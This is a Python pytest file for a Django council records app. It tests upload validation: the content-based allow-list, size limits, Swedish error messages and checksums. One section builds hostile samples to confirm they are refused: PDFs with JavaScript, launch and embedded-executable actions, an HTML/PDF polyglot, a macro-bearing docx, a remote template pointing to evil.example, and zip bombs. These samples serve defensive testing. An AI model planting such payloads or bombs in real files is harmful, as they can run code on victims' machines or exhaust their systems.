"""Uploads: an allow-list checked by content, a size limit, a clear Swedish error on
the page, the SHA-256 kept, and nothing saved when refused."""

from __future__ import annotations

import hashlib
import io
import zipfile
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from councils.models import Document
from tests.conftest import client_for
from tests.files import HTML_BYTES, docx_bytes, office_bytes, pdf_bytes, pdf_with, png_bytes

pytestmark = pytest.mark.django_db


def _post(world: dict[str, Any], upload: SimpleUploadedFile, **extra: Any) -> Any:
    data = {
        "kind": "tjansteskrivelse",
        "subject": "Ny handling",
        "direction": "inkommande",
        "document_date": "2021-06-02",
        "counterpart": "Bergs kommun",
        "file": upload,
        **extra,
    }
    client = client_for(world["secretariat"])
    return client.post(f"/diarium/{world['case'].pk}/handlingar/ny/", data)


def test_a_pdf_is_stored_with_its_checksum(world: dict[str, Any]) -> None:
    pdf = pdf_bytes()
    response = _post(world, SimpleUploadedFile("beslut.pdf", pdf, "application/pdf"))
    assert response.status_code == 302
    document = Document.objects.get(subject="Ny handling")
    assert document.sha256 == hashlib.sha256(pdf).hexdigest()
    assert document.size == len(pdf)
    assert document.content_type == "application/pdf"
    assert document.file_name == "beslut.pdf"
    assert document.reference == f"{world['case'].diarienummer}-3"
    assert "beslut" not in document.file.name  # stored under a generated name


def test_office_documents_are_recognised_by_content(world: dict[str, Any]) -> None:
    response = _post(world, SimpleUploadedFile("svar.docx", docx_bytes(), "application/zip"))
    assert response.status_code == 302
    assert Document.objects.get(subject="Ny handling").content_type.endswith("document")


def test_too_big_is_refused_with_a_swedish_error(world: dict[str, Any], settings: Any) -> None:
    settings.SAMVERKAN_MAX_UPLOAD_BYTES = 100
    response = _post(world, SimpleUploadedFile("stor.pdf", pdf_bytes(), "application/pdf"))
    assert response.status_code == 200
    assert "största fil som tas emot är 100" in response.content.decode()
    assert not Document.objects.filter(subject="Ny handling").exists()


def test_wrong_type_is_refused(world: dict[str, Any]) -> None:
    response = _post(world, SimpleUploadedFile("sida.html", HTML_BYTES, "text/html"))
    assert response.status_code == 200
    assert "Den här filtypen tas inte emot" in response.content.decode()
    assert not Document.objects.filter(subject="Ny handling").exists()


def test_type_disguised_by_a_false_extension_is_refused(world: dict[str, Any]) -> None:
    """HTML named .pdf is refused (its content is no allowed type) ..."""
    response = _post(world, SimpleUploadedFile("rapport.pdf", HTML_BYTES, "application/pdf"))
    assert response.status_code == 200
    assert "Den här filtypen tas inte emot" in response.content.decode()
    assert not Document.objects.filter(subject="Ny handling").exists()


def test_allowed_type_under_another_types_name_is_refused(world: dict[str, Any]) -> None:
    """... and so is a real PNG named .pdf: name and content must agree."""
    response = _post(world, SimpleUploadedFile("rapport.pdf", png_bytes(), "application/pdf"))
    assert response.status_code == 200
    assert "men innehållet är av en annan typ" in response.content.decode()
    assert not Document.objects.filter(subject="Ny handling").exists()


def test_confidential_needs_its_secrecy_marking(world: dict[str, Any]) -> None:
    response = _post(
        world, SimpleUploadedFile("a.pdf", pdf_bytes(), "application/pdf"), confidential="on"
    )
    assert response.status_code == 200
    assert "En sekretessbelagd handling behöver sin sekretessmarkering." in (
        response.content.decode()
    )
    assert not Document.objects.filter(subject="Ny handling").exists()


def test_confidential_with_marking_is_saved(world: dict[str, Any]) -> None:
    response = _post(
        world,
        SimpleUploadedFile("a.pdf", pdf_bytes(), "application/pdf"),
        confidential="on",
        secrecy_provision="OSL 21 kap. 7 §",
        secrecy_date="2021-06-02",
        secrecy_authority="Regionstyrelsen",
    )
    assert response.status_code == 302
    assert Document.objects.get(subject="Ny handling").confidential


def test_a_refused_file_is_not_left_in_storage(world: dict[str, Any], tmp_path: Any) -> None:
    from councils import services

    with pytest.raises(Exception):  # noqa: B017, PT011 - any refusal will do
        services.document_register(
            actor=None,
            case=world["case"],
            kind="bilaga",
            subject="",  # required: full_clean refuses after the file was checked
            direction="inkommande",
            document_date=world["case"].registered_on,
            upload=io.BytesIO(pdf_bytes()),
            upload_name="x.pdf",
            upload_size=len(pdf_bytes()),
        )
    stored = list((tmp_path / "media").rglob("*.pdf")) if (tmp_path / "media").exists() else []
    assert stored == []


# --- Active content (issue 13, finding 6) ------------------------------------------------


def _javascript_action() -> Any:
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    return DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert(1)"),
        }
    )


def _launch_action() -> Any:
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    return DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")}
    )


def _embedded_file() -> Any:
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

    return DictionaryObject(
        {
            NameObject("/EmbeddedFiles"): DictionaryObject(
                {NameObject("/Names"): ArrayObject([TextStringObject("x.exe")])}
            )
        }
    )


CONTENT_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/word/macros.bin" '
    'ContentType="application/vnd.ms-office.vbaProject"/></Types>'
)
REMOTE_TEMPLATE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/attachedTemplate" Target="https://evil.example/t.dotm" '
    'TargetMode="External"/></Relationships>'
)
HYPERLINK = REMOTE_TEMPLATE.replace("attachedTemplate", "hyperlink")


def _zip_bomb(name: str, main: str) -> bytes:
    """A small archive with one member that unpacks to 1 GiB of zeros."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(main, "<document/>")
        with archive.open(name, "w", force_zip64=True) as member:
            block = b"\0" * (16 * 1024 * 1024)
            for _ in range(64):
                member.write(block)
    return out.getvalue()


def _odt_with_huge_mimetype() -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("mimetype", "w", force_zip64=True) as member,
    ):
        member.write(b"application/vnd.oasis.opendocument.text")
        for _ in range(16):
            member.write(b" " * (8 * 1024 * 1024))
    return out.getvalue()


REFUSED = [
    ("openaction.pdf", lambda: pdf_with({"/OpenAction": _javascript_action()}), "aktivt innehåll"),
    ("launch.pdf", lambda: pdf_with({"/OpenAction": _launch_action()}), "aktivt innehåll"),
    ("bifogad.pdf", lambda: pdf_with({"/Names": _embedded_file()}), "aktivt innehåll"),
    (
        "escaped.pdf",
        lambda: pdf_with({"/OpenAction": _javascript_action()}).replace(
            b"/JavaScript", b"/J#61vaScript"
        ),
        "aktivt innehåll",
    ),
    (
        "polyglot.pdf",
        lambda: pdf_bytes().replace(b"\n", b"\n<html><script>alert(1)</script>\n", 1),
        "webbsida",
    ),
    (
        "makro.docx",
        lambda: office_bytes({"[Content_Types].xml": CONTENT_TYPES, "word/macros.bin": b"x"}),
        "makron",
    ),
    (
        "mall.docx",
        lambda: office_bytes({"word/_rels/settings.xml.rels": REMOTE_TEMPLATE}),
        "annan adress",
    ),
    ("bomb.docx", lambda: _zip_bomb("word/media/zeros.bin", "word/document.xml"), "packas upp"),
    ("bomb.xlsx", lambda: _zip_bomb("xl/media/zeros.bin", "xl/workbook.xml"), "packas upp"),
    ("stor.odt", _odt_with_huge_mimetype, "packas upp"),
]


@pytest.mark.parametrize(("name", "make", "message"), REFUSED, ids=[r[0] for r in REFUSED])
def test_active_content_and_bombs_are_refused_leaving_nothing(
    world: dict[str, Any], tmp_path: Any, name: str, make: Any, message: str
) -> None:
    data = make()
    before = Document.objects.count()
    response = _post(world, SimpleUploadedFile(name, data, "application/octet-stream"))
    assert response.status_code == 200
    assert message in response.content.decode()
    assert Document.objects.count() == before
    stored = tmp_path / "media"
    assert not stored.exists() or not any(p.is_file() for p in stored.rglob("*"))


def test_checking_an_office_file_reads_its_parts_in_bounded_chunks() -> None:
    """The 65 kB ODT whose mimetype part unpacks to 128 MiB is refused without
    reading that part whole."""
    import tracemalloc

    from councils.uploads import inspect_upload

    data = _odt_with_huge_mimetype()
    assert len(data) < 400_000
    tracemalloc.start()
    with pytest.raises(ValidationError):
        inspect_upload(io.BytesIO(data), name="stor.odt", size=len(data))
    _current, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 16 * 1024 * 1024


def test_a_document_with_a_hyperlink_is_accepted(world: dict[str, Any]) -> None:
    """External relationships that are only links (not fetched when opened) pass."""
    data = office_bytes({"word/_rels/document.xml.rels": HYPERLINK})
    response = _post(world, SimpleUploadedFile("lank.docx", data, "application/octet-stream"))
    assert response.status_code == 302


def test_an_untagged_pdf_is_flagged_for_the_secretariat_with_what_to_do(world: Any) -> None:
    """An upload without tags is named on its page to the secretariat (with what to do),
    a tagged one is not, and the public never sees the internal advice."""
    from councils import pdfs
    from tests.conftest import client_for
    from tests.factories import make_document
    from tests.files import pdf_bytes

    untagged = pdf_bytes("Skannad skrivelse")
    tagged = pdfs.html_to_pdf(
        '<html lang="sv"><head><title>Taggad</title></head><body><h1>Taggad</h1></body></html>'
    )
    pages = {}
    for name, data in (("untagged", untagged), ("tagged", tagged)):
        document = make_document(
            case=world["case"],
            subject=f"Handling {name}",
            upload=io.BytesIO(data),
            upload_name=f"{name}.pdf",
            upload_size=len(data),
        )
        url = f"/handlingar/{document.pk}/"
        pages[name] = (
            client_for(world["secretariat"]).get(url).content.decode(),
            client_for(None).get(url).content.decode(),
        )
    assert "Den här PDF:en är inte taggad" in pages["untagged"][0]
    assert "Dokumentstrukturtaggar" in pages["untagged"][0]
    assert "inte taggad" not in pages["untagged"][1]
    assert "inte taggad" not in pages["tagged"][0]
